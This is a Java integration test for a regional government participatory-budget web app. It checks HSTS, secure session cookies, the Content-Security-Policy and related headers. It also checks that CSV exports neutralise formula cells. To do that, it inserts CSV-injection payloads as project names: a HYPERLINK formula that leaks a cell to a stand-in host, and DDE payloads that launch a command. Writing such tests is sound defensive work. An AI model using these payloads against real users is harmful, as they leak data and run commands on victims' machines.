package pe.gob.regioncajamarca.participa.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

import pe.gob.regioncajamarca.participa.cycle.OpenCycleCommand;
import pe.gob.regioncajamarca.participa.cycle.Scopes;
import pe.gob.regioncajamarca.participa.testsupport.Http;
import pe.gob.regioncajamarca.participa.testsupport.ProcessTest;

/**
 * Hardening seen from outside: behind a TLS proxy (X-Forwarded-Proto: https from a trusted proxy on the loopback)
 * the answers carry HSTS and the session cookie is Secure; on plain HTTP neither (a browser would refuse the
 * cookie). Session cookies are HttpOnly and SameSite=Lax, pages carry a CSP without inline script. CSV downloads
 * neutralise cells that start with = + - @.
 */
class HardeningIT extends ProcessTest {

    @LocalServerPort int port;

    private HttpResponse<String> get(String path, Map<String, String> headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).GET();
        headers.forEach(b::header);
        return HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build()
                .send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String sessionCookie(HttpResponse<String> r) {
        return r.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID=")).findFirst()
                .orElseThrow(() -> new AssertionError("no session cookie: " + r.headers().map()));
    }

    @Test
    void behindATlsProxyAnswersCarryHstsAndTheSessionCookieIsSecure() throws Exception {
        HttpResponse<String> tls = get("/login", Map.of("X-Forwarded-Proto", "https"));
        assertThat(tls.statusCode()).isEqualTo(200);
        assertThat(tls.headers().firstValue("Strict-Transport-Security")).hasValueSatisfying(
                v -> assertThat(v).contains("max-age="));
        assertThat(sessionCookie(tls)).contains("Secure", "HttpOnly", "SameSite=Lax");

        HttpResponse<String> plain = get("/login", Map.of());
        assertThat(plain.headers().firstValue("Strict-Transport-Security")).isEmpty();
        assertThat(sessionCookie(plain)).contains("HttpOnly", "SameSite=Lax").doesNotContain("Secure");
        assertThat(plain.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(
                v -> assertThat(v).contains("default-src 'self'").doesNotContain("unsafe-inline"));
        assertThat(plain.headers().firstValue("X-Frame-Options")).isPresent();
        assertThat(plain.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    }

    @Test
    void csvDownloadsNeutraliseFormulaCells() {
        int year = freeYear();
        Map<String, BigDecimal> split = new HashMap<>();
        Scopes.ALL.forEach(s -> split.put(s, new BigDecimal("1000000")));
        cycleService.open(new OpenCycleCommand(year, new BigDecimal("14000000"), 3, split, List.of()), null);
        String[] names = {"=HYPERLINK(\"http://malo.example/?x=\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0", "-2+3",
                "@SUM(1+1)*cmd|' /C calc'!A0"};
        for (int i = 0; i < names.length; i++) {
            jdbc.sql("INSERT INTO project (cycle_year, cui, name, scope, cost, sector, executing_unit) "
                            + "VALUES (?, ?, ?, 'CHOTA', 100000, 'Salud', ?)")
                    .params(year, String.valueOf(year * 10 + i), names[i], TEST_UNIT).update();
        }
        var csv = new Http(port).get("/api/open-data/cycles/" + year + "/projects.csv");
        assertThat(csv.statusCode()).isEqualTo(200);
        List<String> rows = csv.body().lines().skip(1).toList();
        assertThat(rows).hasSize(4);
        for (String row : rows) {
            String name = row.split(",", 3)[1];
            // the name cell, unquoted, starts with an apostrophe (quoted cells start with "')
            assertThat(name).matches("\"?'.*");
        }
        assertThat(csv.body()).contains("'=HYPERLINK", "'+1+cmd", "'-2+3", "'@SUM");
    }
}
